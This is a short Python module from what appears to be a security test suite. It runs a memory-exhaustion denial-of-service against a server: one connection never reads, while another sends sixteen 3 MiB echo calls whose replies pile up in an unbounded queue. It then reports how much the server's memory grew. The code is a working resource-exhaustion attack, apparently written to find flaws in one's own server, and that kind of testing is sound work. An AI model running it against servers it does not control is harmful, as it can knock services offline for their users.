"""Breaks: the server's memory, with a client that asks and never reads.

Each reply waits for its reader. In a queue without a limit, all of them wait.
"""

from attacks.finding import Finding
from attacks.target import INITIALIZE, Server, call, request
from attacks.wire import MIB, connected, grown, memory

AGAINST = "server"
CASE = ""

CALLS = 16
SIZE = 3  # MiB, of each call and of its reply


async def attack(server: Server) -> Finding:
    before = memory(server.pid)
    async with connected(server, receive_buffer=4096) as unread, connected(server) as wire:
        session_id = await unread.open_stream(server.mallory)
        await wire.post(session_id, request(0, "initialize", INITIALIZE), server.mallory)
        message = call(1, "echo", message="x" * SIZE * MIB)
        for taken in range(CALLS):
            status, _ = await wire.post(session_id, message, server.mallory)
            if status != 202:
                return Finding(False, f"dropped after {taken} calls of {SIZE} MiB: {status}")
        grew = await grown(server.pid, before, CALLS * SIZE * MIB)
    waiting = f"{CALLS * SIZE} MiB wait for a client that does not read"
    return Finding(True, f"{waiting}: memory +{grew} MiB")
